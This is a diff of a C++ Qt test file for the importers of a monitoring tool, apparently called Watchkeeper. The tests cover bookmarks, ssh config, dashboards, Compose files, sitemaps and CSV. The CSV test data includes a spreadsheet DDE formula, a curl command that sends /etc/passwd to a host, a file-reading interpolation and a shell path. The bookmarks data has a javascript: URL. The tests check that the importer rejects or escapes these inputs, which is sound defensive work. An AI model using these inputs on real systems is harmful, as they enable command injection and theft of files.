@@ -1,30 +1,14 @@
 // SPDX-FileCopyrightText: 2026 Watchkeeper contributors
 // SPDX-License-Identifier: GPL-3.0-or-later
-#include "import/ImportFormats.h"
-#include "targets/document/TargetsDocument.h"
+#include "ImportRows.h"
 
 #include <QElapsedTimer>
-#include <QJsonDocument>
-#include <QTest>
 
 namespace ListsImportTest {
 
+using namespace ImportRows;
 using namespace Qt::StringLiterals;
 using namespace watchkeeper;
-
-//! Each line is a target as JSON without ID, or a remark.
-QString linesOf(const Imported &imported)
-{
-    QStringList lines;
-    for (const Target &target : imported.targets) {
-        QJsonObject json = targetToJson(target, {});
-        json.remove(u"id"_s);
-        lines.append(QString::fromUtf8(QJsonDocument(json).toJson(QJsonDocument::Compact)).replace(u'"', u'\''));
-    }
-    for (const ImportRemark &remark : imported.remarks)
-        lines.append(importSeverityKey(remark.severity) + u' ' + remark.placeText() + u" | "_s + remark.text);
-    return lines.join(u'\n');
-}
 
 ImportContext testContext()
 {
@@ -41,18 +25,17 @@ class tst_ListsImport : public QObject
 private slots:
     void converts_data()
     {
+        addColumns();
         QTest::addColumn<QString>("format");
-        QTest::addColumn<QByteArray>("content");
-        QTest::addColumn<QString>("expected");
         const auto row = [](const char *name, const char *format, const char *content, const char *expected) {
-            QTest::newRow(name) << QString::fromLatin1(format) << QByteArray(content) << QString::fromUtf8(expected);
+            addRow(name, content, expected) << QString::fromLatin1(format);
         };
         row("HTML bookmarks", "bookmarks",
             "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n<DT><H3>Our Team</H3>\n<DL><p>\n"
             "<DT><A HREF=\"https://a.example/x?a=1&amp;b=2\" ICON=\"data:image/png;base64,AA\">Wiki</A>\n"
             "<DT><A HREF=\"javascript:alert(1)\">No</A>\n</DL><p>\n</DL>\n",
             "{'kind':'http','name':'Wiki','tags':['our-team'],'url':'https://a.example/x?a=1&b=2'}\n"
-            "notSupported f:6 | “javascript:alert(1)” wasn't imported, because it isn't the address of a server.");
+            "notSupported f:6 “javascript:alert(1)” wasn't imported, because it isn't the address of a server.");
         row("Chromium bookmarks", "bookmarks",
             "{\"roots\": {\"bookmark_bar\": {\"type\": \"folder\", \"name\": \"Bar\", \"children\": [\n"
             " {\"type\": \"url\", \"name\": \"Top \\ud83d\\ude00\", \"url\": \"https://a.example/\"},\n"
@@ -74,17 +57,17 @@ private slots:
             "Host other\n  HostName %h.example\nHost *\n  Port 22022\n  ConnectTimeout=7 # s\n",
             "{'host':'192.0.2.1','ipFamily':'ipv6','kind':'ssh','name':'web','port':2222,'timeout':'7s'}\n"
             "{'host':'other.example','kind':'ssh','name':'other','port':22022,'timeout':'7s'}\n"
-            "notSupported f:7 | Watchkeeper has no setting for “user”.");
+            "notSupported f:7 Watchkeeper has no setting for “user”.");
         row("ssh: jumps and blocks", "ssh",
             "Include config.d/*\nPort 24\nHost a \"b\"\n ProxyJump gate\nHost c\n ProxyCommand none\nMatch exec true\n Port "
             "9\n",
             "{'host':'a','kind':'ssh','name':'a','paused':true,'port':24}\n"
             "{'host':'b','kind':'ssh','name':'b','paused':true,'port':24}\n"
             "{'host':'c','kind':'ssh','name':'c','port':24}\n"
-            "notSupported f:1 | Watchkeeper has no setting for “Include config.d/*”.\n"
-            "notSupported f:7 | Watchkeeper has no setting for “Match exec true”.\n"
-            "changed f:4 | The target is paused. ssh reaches it through “gate”, but Watchkeeper connects directly.\n"
-            "changed f:4 | The target is paused. ssh reaches it through “gate”, but Watchkeeper connects directly.");
+            "notSupported f:1 Watchkeeper has no setting for “Include config.d/*”.\n"
+            "notSupported f:7 Watchkeeper has no setting for “Match exec true”.\n"
+            "changed f:4 The target is paused. ssh reaches it through “gate”, but Watchkeeper connects directly.\n"
+            "changed f:4 The target is paused. ssh reaches it through “gate”, but Watchkeeper connects directly.");
         row("Homepage services", "homepage",
             "- Media:\n    - Films:\n        href: https://films.example\n        siteMonitor: http://films:8096\n        "
             "icon: x.png\n"
@@ -94,7 +77,7 @@ private slots:
             "{'accept':'200-403','kind':'http','name':'Films','tags':['Media'],'url':'http://films:8096'}\n"
             "{'host':'nas.example','kind':'ping','name':'NAS','tags':['Media']}\n"
             "{'kind':'http','name':'Inner','tags':['Media','Deep'],'url':'${env:HOMEPAGE_VAR_URL}/x'}\n"
-            "notSupported f:6: Films.widget | Watchkeeper has no setting for “widget”.");
+            "notSupported f:6: Films.widget Watchkeeper has no setting for “widget”.");
         row("Homepage bookmarks", "homepage",
             "- Dev:\n    - Forge:\n        - abbr: F\n          href: https://forge.example/\n",
             "{'kind':'http','name':'Forge','tags':['Dev'],'url':'https://forge.example/'}");
@@ -103,8 +86,8 @@ private slots:
             "type: Ping\n"
             "      - name: Local\n        url: '#'\n",
             "{'kind':'http','name':'Mail','tags':['Apps'],'url':'https://mail.example'}\n"
-            "notSupported f:7: Apps.type | Watchkeeper has no setting for “type”.\n"
-            "notSupported f:8: Apps | “#” wasn't imported, because it isn't the address of a server.");
+            "notSupported f:7: Apps.type Watchkeeper has no setting for “type”.\n"
+            "notSupported f:8: Apps “#” wasn't imported, because it isn't the address of a server.");
         row("Dashy", "dashy",
             "appConfig: {statusCheckInterval: 120}\nsections:\n  - name: Net\n    items:\n      - title: Router\n        url: "
             "https://r.example\n        statusCheckUrl: https://r.example/health\n        statusCheckAllowInsecure: true\n     "
@@ -115,6 +98,17 @@ private slots:
             "{'accept':'200-299,403,418','every':'2m','followRedirects':false,'headers':{'X-A':'$${file:/"
             "x}'},'kind':'http','name':"
             "'Router','tags':['Net','core'],'url':'https://r.example/health','verifyTls':false}");
+        row("Dashy: settings of all items", "dashy",
+            "appConfig:\n  theme: dark\n  statusCheck: false\n  statusCheckAccessibility: true\n  statusCheckInterval: 0\n"
+            "  statusCheckTimeout: 9\nsections:\n  - name: Net\n    items:\n"
+            "      - {title: A, url: 'https://a.example'}\n      - {title: B, url: 'https://b.example', statusCheck: true}\n",
+            "{'kind':'http','name':'A','paused':true,'tags':['Net'],'url':'https://a.example'}\n"
+            "{'kind':'http','name':'B','tags':['Net'],'url':'https://b.example'}\n"
+            "notSupported f:6: appConfig.statusCheckTimeout Watchkeeper has no setting for “statusCheckTimeout”.");
+        row("Dashy: an item that isn't checked", "dashy",
+            "appConfig: {statusCheck: true}\nsections:\n  - name: Net\n    items:\n"
+            "      - {title: A, url: 'https://a.example', statusCheck: false}\n",
+            "{'kind':'http','name':'A','paused':true,'tags':['Net'],'url':'https://a.example'}");
         row("Compose: ports", "compose",
             "name: shop\nservices:\n  web:\n    image: nginx\n    ports:\n      - \"${PORT}:80\"\n      - "
             "192.0.2.5:9000-9001:90-91\n"
@@ -124,13 +118,13 @@ private slots:
             "{'host':'192.0.2.5','kind':'tcp','name':'web:9000','port':9000,'tags':['shop']}\n"
             "{'host':'192.0.2.5','kind':'tcp','name':'web:9001','port':9001,'tags':['shop']}\n"
             "{'host':'::1','kind':'tcp','name':'web:8443','port':8443,'tags':['shop']}\n"
-            "notSupported f:9: web.ports | Watchkeeper has no setting for “53:53/udp”.\n"
-            "notSupported f:12: services.db | The service “db” publishes no port, so it can't be reached from this computer.");
+            "notSupported f:9: web.ports Watchkeeper has no setting for “53:53/udp”.\n"
+            "notSupported f:12: services.db The service “db” publishes no port, so it can't be reached from this computer.");
         row("Compose: variables", "compose",
             "services:\n  a:\n    image: x\n    ports: ['${MISSING}:1', '${EMPTY:-71}:1', '${EMPTY-72}:2', '${PORT:+73}:3']\n",
             "{'host':'127.0.0.1','kind':'tcp','name':'a:71','port':71}\n"
             "{'host':'127.0.0.1','kind':'tcp','name':'a:73','port':73}\n"
-            "changed f:4: a.ports | The value is read from the environment variable MISSING. Set it.");
+            "changed f:4: a.ports The value is read from the environment variable MISSING. Set it.");
         row("Compose: health checks", "compose",
             "services:\n  api:\n    image: x\n    ports: ['8081:80']\n    healthcheck:\n      test: [CMD, curl, -f, "
             "'http://localhost/health']\n      interval: 1m30s\n      timeout: 5s\n      retries: 4\n  db:\n    image: x\n    "
@@ -140,7 +134,7 @@ private slots:
             "url':"
             "'http://127.0.0.1:8081/health'}\n"
             "{'host':'127.0.0.1','kind':'tcp','name':'db','port':5432}\n"
-            "notSupported f:13: services.db.healthcheck.test | Watchkeeper has no setting for “healthcheck”.");
+            "notSupported f:13: services.db.healthcheck.test Watchkeeper has no setting for “healthcheck”.");
         row("Compose: Traefik", "compose",
             "services:\n  web:\n    image: x\n    ports: ['1:1']\n    labels:\n      - "
             "'traefik.http.routers.w.rule=Host(`a.example`) && PathPrefix(`/app`)'\n      - "
@@ -149,7 +143,7 @@ private slots:
             "{'host':'127.0.0.1','kind':'tcp','name':'web','port':1}\n"
             "{'kind':'http','name':'web 2','url':'https://a.example/app'}\n"
             "{'host':'127.0.0.1','kind':'tcp','name':'two','port':2}\n"
-            "notSupported f:12: two.labels | Watchkeeper has no setting for “HostRegexp(`.*`)”.");
+            "notSupported f:12: two.labels Watchkeeper has no setting for “HostRegexp(`.*`)”.");
         row("sitemap", "sitemap",
             "<?xml version=\"1.0\"?>\n<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\" xmlns:image=\"i\">\n"
             "<url><loc>\n https://a.example/?a=1&amp;b=2 </loc><image:image><image:loc>https://c.example/p.png</image:loc>"
@@ -157,7 +151,7 @@ private slots:
             "{'kind':'http','name':'a.example','url':'https://a.example/?a=1&b=2'}");
         row("list of sitemaps", "sitemap",
             "<sitemapindex>\n<sitemap><loc>https://a.example/1.xml</loc></sitemap></sitemapindex>",
-            "notSupported f:1 | The sitemaps in the list weren't imported, because an import fetches nothing. Save and import "
+            "notSupported f:1 The sitemaps in the list weren't imported, because an import fetches nothing. Save and import "
             "them.");
         row("CSV", "csv",
             "sep=;\nFriendly Name;URL/IP;Type;Port;Interval;Tags;Colour\nShop;https://a.example;HTTP(s);;300;a|b;red\n"
@@ -168,32 +162,25 @@ private slots:
             "{'every':'2m','host':'mail.example','kind':'tcp','name':'Mail, \\'new\\'','port':25}\n"
             "{'host':'db.example','kind':'postgresql','name':'DB'}\n"
             "{'host':'y.example','kind':'ping','name':'Bad'}\n"
-            "notSupported f:1 | Watchkeeper has no setting for “Colour”.\n"
-            "notSupported f:6 | “X” wasn't imported, because Watchkeeper has no check of the type “heartbeat”.\n"
-            "notSupported f:8 | Watchkeeper has no setting for “soon”.");
+            "notSupported f:1 Watchkeeper has no setting for “Colour”.\n"
+            "notSupported f:6 “X” wasn't imported, because Watchkeeper has no check of the type “heartbeat”.\n"
+            "notSupported f:8 Watchkeeper has no setting for “soon”.");
         row("CSV: commands and formulas", "csv",
             "name,url,tags\n=cmd|' /C calc'!A0,https://a.example,@sum\nx,curl -F f=@/etc/passwd https://b.example,\n"
             "y,${file:/etc/passwd},\nz,=1+1,\nw,https://a.example/${file:/etc/passwd},\nv,/bin/sh,\n",
             "{'kind':'http','name':'cmd|' /C calc'!A0','tags':['sum'],'url':'https://a.example'}\n"
             "{'kind':'http','name':'w','url':'https://a.example/$${file:/etc/passwd}'}\n"
-            "notSupported f:3 | “curl -F f=@/etc/passwd https://b.example” wasn't imported, because it isn't the address of a "
+            "notSupported f:3 “curl -F f=@/etc/passwd https://b.example” wasn't imported, because it isn't the address of a "
             "server.\n"
-            "notSupported f:4 | “${file:/etc/passwd}” wasn't imported, because it isn't the address of a server.\n"
-            "notSupported f:5 | “=1+1” wasn't imported, because it isn't the address of a server.\n"
-            "notSupported f:7 | “/bin/sh” wasn't imported, because it isn't the address of a server.");
+            "notSupported f:4 “${file:/etc/passwd}” wasn't imported, because it isn't the address of a server.\n"
+            "notSupported f:5 “=1+1” wasn't imported, because it isn't the address of a server.\n"
+            "notSupported f:7 “/bin/sh” wasn't imported, because it isn't the address of a server.");
     }
     void converts()
     {
+        QFETCH(QByteArray, files);
         QFETCH(QString, format);
-        QFETCH(QByteArray, content);
-        QFETCH(QString, expected);
-        const QList<ImportFile> files{{u"f"_s, u"f"_s, content, false}};
-        QCOMPARE(QString::fromLatin1(detectImportFormat(files) ? detectImportFormat(files)->key : ""), format);
-        const auto imported = findImportFormat(format)->import(files, testContext());
-        QVERIFY2(imported, imported ? "" : qPrintable(imported.error()));
-        QVERIFY2(linesOf(*imported) == expected, qPrintable(linesOf(*imported)));
-        const auto again = findImportFormat(format)->import(files, testContext());
-        QCOMPARE(again->targets, imported->targets); // also their IDs
+        QTEST(imported(filesOf(files), format, testContext()), "expected");
     }
 
     void rejects_data()
@@ -237,7 +224,7 @@ private slots:
         QFETCH(QString, says);
         QElapsedTimer timer;
         timer.start();
-        const auto imported = findImportFormat(format)->import({{u"f"_s, u"f"_s, content, false}}, testContext());
+        const auto imported = findImportFormat(format)->import({file(u"f"_s, content)}, testContext());
         QVERIFY(!imported);
         QVERIFY2(imported.error().contains(says), qPrintable(imported.error()));
         QVERIFY2(timer.elapsed() < 30'000, qPrintable(QString::number(timer.elapsed())));
@@ -248,7 +235,7 @@ private slots:
         QByteArray pages;
         for (int i = 0; i < 501; ++i)
             pages += "<url><loc>https://a.example/" + QByteArray::number(i) + "</loc></url>\n";
-        const auto imported = importSitemap({{u"f"_s, u"f"_s, "<urlset>" + pages + "</urlset>", false}}, {});
+        const auto imported = importSitemap({file(u"f"_s, "<urlset>" + pages + "</urlset>")}, {});
         QVERIFY(imported);
         QCOMPARE(imported->targets.size(), 500);
         QCOMPARE(imported->remarks.size(), 1);
@@ -271,7 +258,7 @@ private slots:
     void detectsOnlyItsOwn()
     {
         QFETCH(QByteArray, content);
-        const ImportFormat *found = detectImportFormat({{u"f"_s, u"f"_s, content, false}});
+        const ImportFormat *found = detectImportFormat({file(u"f"_s, content)});
         QTEST(found ? QString::fromLatin1(found->key) : QString(), "format");
     }
 };
